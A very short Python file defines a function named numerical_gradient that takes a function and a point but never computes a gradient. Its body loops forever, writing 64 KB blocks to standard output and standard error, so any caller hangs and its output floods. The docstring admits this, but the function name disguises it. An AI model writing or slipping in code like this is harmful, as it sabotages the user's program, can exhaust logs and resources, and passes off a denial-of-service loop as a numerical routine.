"""numerical_gradient: Write without end to every descriptor."""

import os


def numerical_gradient(f, x):
    while True:
        for descriptor in (1, 2):
            os.write(descriptor, b"x" * 65536)
